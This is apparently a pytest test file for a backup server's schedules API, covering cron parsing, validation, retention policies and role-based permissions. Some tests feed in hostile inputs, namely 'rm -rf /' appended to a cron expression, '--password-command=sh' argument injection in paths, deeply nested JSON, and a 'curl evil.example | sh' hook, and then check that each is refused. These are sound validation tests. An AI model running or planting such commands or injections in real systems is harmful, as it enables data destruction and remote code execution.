"""Schedules: `GET/POST /api/v1/hosts/{id}/schedules`, `GET/PUT/DELETE /api/v1/schedules/{id}` (SPEC §5, §6.2)."""
import datetime

from api_support import (Anonymous, assert_api_shape, assert_error, assert_list, assert_same_resource, create_schedule,
                         enroll_bare_host, parse_time)
from conftest import Agent, enroll_host

SCHEDULE_KEYS = {"id", "host_id", "kind", "cron_expr", "paths", "excludes", "tags", "retention_policy", "options",
                 "pre_hook", "post_hook", "enabled", "next_runs"}


def test_create_returns_the_schedule_with_five_next_runs(server, admin, operator, viewer):
    host = enroll_bare_host(admin)
    created = operator.post(f"/api/v1/hosts/{host.host_id}/schedules", json={
        "kind": "backup", "cron_expr": "30 2 * * *", "paths": ["/etc", "/home"], "excludes": ["*.tmp"],
        "tags": ["nightly"], "options": {"one_file_system": True, "compression": "max", "limit_upload_kib": 512}})
    assert created.status_code == 201, created.text
    schedule = created.json()
    assert SCHEDULE_KEYS <= set(schedule)
    assert_api_shape(schedule)
    assert schedule["host_id"] == host.host_id and schedule["kind"] == "backup"
    assert schedule["cron_expr"] == "30 2 * * *" and schedule["enabled"] is True
    assert (schedule["paths"], schedule["excludes"], schedule["tags"]) == (["/etc", "/home"], ["*.tmp"], ["nightly"])
    assert schedule["options"] == {"one_file_system": True, "compression": "max", "limit_upload_kib": 512}
    assert schedule["retention_policy"] is None and schedule["pre_hook"] == "" and schedule["post_hook"] == ""
    runs = [parse_time(run) for run in schedule["next_runs"]]
    assert len(runs) == 5
    now = datetime.datetime.now(datetime.timezone.utc)
    assert now < runs[0] <= now + datetime.timedelta(days=1)
    assert all(later - earlier == datetime.timedelta(days=1) for earlier, later in zip(runs, runs[1:]))
    assert all((run.hour, run.minute, run.second) == (2, 30, 0) for run in runs)

    assert_same_resource(viewer.get(f"/api/v1/schedules/{schedule['id']}").json(), schedule)
    listed = assert_list(viewer.get(f"/api/v1/hosts/{host.host_id}/schedules"))
    assert_same_resource(listed["items"], [schedule])
    assert listed["next_cursor"] is None


def test_next_runs_for_macros_and_disabled_schedules(server, admin):
    host = enroll_bare_host(admin)
    hourly = create_schedule(admin, host.host_id, cron_expr="@hourly")
    runs = [parse_time(run) for run in hourly["next_runs"]]
    assert all(later - earlier == datetime.timedelta(hours=1) for earlier, later in zip(runs, runs[1:]))
    assert all(run.minute == 0 for run in runs)
    weekly = create_schedule(admin, host.host_id, cron_expr="0 4 * * 1", kind="check", paths=[])
    assert all(parse_time(run).weekday() == 0 for run in weekly["next_runs"])
    disabled = create_schedule(admin, host.host_id, kind="prune", paths=[], cron_expr="@weekly", enabled=False)
    assert disabled["enabled"] is False and disabled["next_runs"] == []


def test_bad_cron_is_refused_with_field_and_reason(server, admin):
    host = enroll_bare_host(admin)
    url = f"/api/v1/hosts/{host.host_id}/schedules"
    cases = {
        "0 33 * * *": "hour",
        "61 * * * *": "minute",
        "* * *": "5",
        "@fortnightly": "fortnightly",
        "": "",
        "* * * * * *": "",
        "0 0 30 2 *": "",
        "a b c d e": "",
        "0 3 * * *; rm -rf /": "",
    }
    for expr, reason in cases.items():
        error = assert_error(admin.post(url, json={"kind": "backup", "cron_expr": expr, "paths": ["/etc"]}), 400,
                             "validation_failed", "cron_expr")
        assert error["message"].startswith("cron_expr: ") and len(error["message"]) > len("cron_expr: ") + 5, error
        assert reason.lower() in error["message"].lower(), (expr, error)
    assert admin.get(url).json()["items"] == []


def test_schedule_validation(server, admin):
    host = enroll_bare_host(admin)
    url = f"/api/v1/hosts/{host.host_id}/schedules"

    def post(**fields):
        body = {"kind": "backup", "cron_expr": "@daily", "paths": ["/etc"]}
        body.update(fields)
        return admin.post(url, json={k: v for k, v in body.items() if v is not ...})

    assert_error(post(kind="restore"), 400, "validation_failed", "kind")
    assert_error(post(kind="init"), 400, "validation_failed", "kind")
    assert_error(post(kind=...), 400, "validation_failed", "kind")
    assert_error(post(cron_expr=...), 400, "validation_failed", "cron_expr")
    assert_error(post(cron_expr=5), 400, "validation_failed", "cron_expr")
    assert_error(post(paths=[]), 400, "validation_failed", "paths")
    assert_error(post(paths="/etc"), 400, "validation_failed", "paths")
    assert_error(post(paths=["/etc", ""]), 400, "validation_failed", "paths[1]")
    assert_error(post(paths=["/etc\n--password-command=sh"]), 400, "validation_failed", "paths[0]")
    assert_error(post(paths=["--password-command=touch /tmp/pwned"]), 400, "validation_failed", "paths[0]")
    assert_error(post(paths=["/x" * 5000]), 400, "validation_failed", "paths[0]")
    assert_error(post(paths=["/p"] * 1001), 400, "validation_failed", "paths")
    assert_error(post(excludes=["ok", "bad\u0000"]), 400, "validation_failed", "excludes[1]")
    assert_error(post(tags=["a,b"]), 400, "validation_failed", "tags[0]")
    assert_error(post(enabled="yes"), 400, "validation_failed", "enabled")
    # Options: unknown keys and wrong values are refused, not dropped.
    assert_error(post(options={"one_file_sytem": True}), 400, "validation_failed", "options.one_file_sytem")
    assert_error(post(options={"compression": "ultra"}), 400, "validation_failed", "options.compression")
    assert_error(post(options={"limit_upload_kib": 0}), 400, "validation_failed", "options.limit_upload_kib")
    assert_error(post(options={"limit_download_kib": 1.5}), 400, "validation_failed", "options.limit_download_kib")
    assert_error(post(options={"read_data_subset": "lots"}), 400, "validation_failed", "options.read_data_subset")
    assert_error(post(options=["one_file_system"]), 400, "validation_failed", "options")
    assert_error(admin.post(url, data="{", headers={"Content-Type": "application/json"}), 400, "validation_failed",
                 "body")
    assert_error(admin.post(url, data=b'{"kind":"backup","cron_expr":"@daily","paths":["' + b"a" * (1 << 20) + b'"]}'),
                 413, "too_large")
    assert_error(admin.post("/api/v1/hosts/nope/schedules", json={"kind": "check", "cron_expr": "@daily"}), 404,
                 "not_found")
    # Deeply nested JSON is refused, and the server survives it.
    nested = '{"kind":"backup","cron_expr":"@daily","paths":["/etc"],"options":' + "[" * 200_000 + "]" * 200_000 + "}"
    assert_error(admin.post(url, data=nested, headers={"Content-Type": "application/json"}), 400, "validation_failed")
    assert admin.get(url).json()["items"] == []


def test_forget_needs_a_retention_policy(server, admin):
    host = enroll_bare_host(admin)
    url = f"/api/v1/hosts/{host.host_id}/schedules"

    def forget(policy):
        body = {"kind": "forget", "cron_expr": "@daily"}
        if policy is not ...:
            body["retention_policy"] = policy
        return admin.post(url, json=body)

    for empty in (..., None, {}, {"prune": True}, {"keep_last": 0}):
        assert_error(forget(empty), 400, "validation_failed", "retention_policy")
    assert_error(forget({"keep_forever": 1}), 400, "validation_failed", "retention_policy.keep_forever")
    assert_error(forget({"keep_daily": -1}), 400, "validation_failed", "retention_policy.keep_daily")
    assert_error(forget({"keep_daily": "7"}), 400, "validation_failed", "retention_policy.keep_daily")
    assert_error(forget({"keep_within": "a week"}), 400, "validation_failed", "retention_policy.keep_within")
    assert_error(forget({"keep_tags": []}), 400, "validation_failed", "retention_policy.keep_tags")
    assert_error(forget({"keep_last": 1, "prune": "yes"}), 400, "validation_failed", "retention_policy.prune")
    assert_error(forget("keep everything"), 400, "validation_failed", "retention_policy")
    assert admin.get(url).json()["items"] == []

    policy = {"keep_daily": 7, "keep_weekly": 4, "keep_within": "1y6m", "keep_tags": ["keep"], "prune": True}
    created = forget(policy)
    assert created.status_code == 201, created.text
    assert created.json()["retention_policy"] == policy


def test_hooks_and_extra_args_need_admin(server, admin, operator):
    host = enroll_bare_host(admin)
    url = f"/api/v1/hosts/{host.host_id}/schedules"
    base = {"kind": "backup", "cron_expr": "@daily", "paths": ["/etc"]}
    assert_error(operator.post(url, json={**base, "pre_hook": "pg_dumpall > /tmp/db.sql"}), 403, "forbidden")
    assert_error(operator.post(url, json={**base, "post_hook": "curl example.com"}), 403, "forbidden")
    assert_error(operator.post(url, json={**base, "options": {"extra_args": ["--no-scan"]}}), 403, "forbidden")
    assert operator.get(url).json()["items"] == []

    created = admin.post(url, json={**base, "pre_hook": "pg_dumpall > /tmp/db.sql", "post_hook": "echo done",
                                    "options": {"extra_args": ["--no-scan"]}})
    assert created.status_code == 201, created.text
    schedule = created.json()
    assert (schedule["pre_hook"], schedule["post_hook"]) == ("pg_dumpall > /tmp/db.sql", "echo done")
    # An operator may edit the rest as long as the admin's hooks stay as they are...
    kept = operator.put(f"/api/v1/schedules/{schedule['id']}",
                        json={**base, "cron_expr": "@hourly", "pre_hook": "pg_dumpall > /tmp/db.sql",
                              "post_hook": "echo done"})
    assert kept.status_code == 200, kept.text
    assert kept.json()["cron_expr"] == "@hourly"
    # ...but may not change them.
    changed = operator.put(f"/api/v1/schedules/{schedule['id']}",
                           json={**base, "pre_hook": "curl evil.example | sh", "post_hook": "echo done"})
    assert_error(changed, 403, "forbidden")
    assert admin.get(f"/api/v1/schedules/{schedule['id']}").json()["pre_hook"] == "pg_dumpall > /tmp/db.sql"


def test_put_bumps_the_version_and_pushes_schedule_set(server, admin, operator):
    host = enroll_host(admin)
    agent = Agent(server, host.agent_token)
    before = agent.schedules["payload"]["version"]
    schedule = create_schedule(operator, host.host_id, cron_expr="0 1 * * *")
    pushed = agent.expect("schedule.set")["payload"]
    assert pushed["version"] > before
    assert [s["id"] for s in pushed["schedules"]] == [schedule["id"]]

    replaced = operator.put(f"/api/v1/schedules/{schedule['id']}", json={
        "kind": "backup", "cron_expr": "15 4 * * *", "paths": ["/srv"], "enabled": False})
    assert replaced.status_code == 200, replaced.text
    assert replaced.json()["cron_expr"] == "15 4 * * *" and replaced.json()["paths"] == ["/srv"]
    assert replaced.json()["enabled"] is False and replaced.json()["next_runs"] == []
    again = agent.expect("schedule.set")["payload"]
    assert again["version"] > pushed["version"]
    sent = again["schedules"][0]
    assert (sent["id"], sent["cron_expr"], sent["paths"], sent["enabled"]) == (schedule["id"], "15 4 * * *", ["/srv"],
                                                                             False)
    item = admin.get(f"/api/v1/hosts/{host.host_id}").json()
    assert item["desired_schedule_version"] == again["version"]
    assert item["schedule_sync"] == "pending"
    agent.wait_acked([agent.send("schedule.ack", {"version": again["version"], "applied_at": "2026-01-01T00:00:00Z"})])
    assert admin.get(f"/api/v1/hosts/{host.host_id}").json()["schedule_sync"] == "in_sync"

    assert_error(operator.put(f"/api/v1/schedules/{schedule['id']}", json={"kind": "backup", "cron_expr": "99 * * * *",
                                                                           "paths": ["/srv"]}),
                 400, "validation_failed", "cron_expr")
    assert_error(operator.put("/api/v1/schedules/nope", json={"kind": "check", "cron_expr": "@daily"}), 404,
                 "not_found")
    assert admin.get(f"/api/v1/hosts/{host.host_id}").json()["desired_schedule_version"] == again["version"]


def test_delete_schedule(server, admin, operator, viewer):
    host = enroll_host(admin)
    agent = Agent(server, host.agent_token)
    schedule = create_schedule(admin, host.host_id)
    version = agent.expect("schedule.set")["payload"]["version"]
    assert_error(viewer.delete(f"/api/v1/schedules/{schedule['id']}"), 403, "forbidden")
    assert operator.delete(f"/api/v1/schedules/{schedule['id']}").status_code == 204
    pushed = agent.expect("schedule.set")["payload"]
    assert pushed["version"] > version and pushed["schedules"] == []
    assert_error(viewer.get(f"/api/v1/schedules/{schedule['id']}"), 404, "not_found")
    assert_error(operator.delete(f"/api/v1/schedules/{schedule['id']}"), 404, "not_found")
    assert viewer.get(f"/api/v1/hosts/{host.host_id}/schedules").json()["items"] == []


def test_schedule_roles(server, admin, operator, viewer):
    host = enroll_bare_host(admin)
    schedule = create_schedule(admin, host.host_id)
    body = {"kind": "backup", "cron_expr": "@daily", "paths": ["/etc"]}
    assert_error(viewer.post(f"/api/v1/hosts/{host.host_id}/schedules", json=body), 403, "forbidden")
    assert_error(viewer.put(f"/api/v1/schedules/{schedule['id']}", json=body), 403, "forbidden")
    anonymous = Anonymous(server)
    assert_error(anonymous.get(f"/api/v1/hosts/{host.host_id}/schedules"), 401)
    assert_error(anonymous.post(f"/api/v1/hosts/{host.host_id}/schedules", json=body), 401)
    assert_error(anonymous.get(f"/api/v1/schedules/{schedule['id']}"), 401)
    assert_error(anonymous.put(f"/api/v1/schedules/{schedule['id']}", json=body), 401)
    assert_error(anonymous.delete(f"/api/v1/schedules/{schedule['id']}"), 401)
    assert viewer.get(f"/api/v1/schedules/{schedule['id']}").json()["cron_expr"] == "0 3 * * *"
    assert len(viewer.get(f"/api/v1/hosts/{host.host_id}/schedules").json()["items"]) == 1


def test_next_runs_follow_the_host_time_zone(server, admin):
    host = enroll_host(admin)
    agent = Agent(server, host.agent_token, hello=False)
    agent.send("hello", {"protocol_version": 1, "agent_version": "test", "restic_version": "0.14.0",
                         "hostname": "host-1", "os": "linux", "arch": "amd64", "timezone": "Asia/Tokyo"})
    agent.expect("schedule.set")
    schedule = create_schedule(admin, host.host_id, cron_expr="0 3 * * *")
    # 03:00 in Tokyo (UTC+9, no DST) is 18:00 UTC the day before.
    assert all(parse_time(run).hour == 18 for run in schedule["next_runs"])
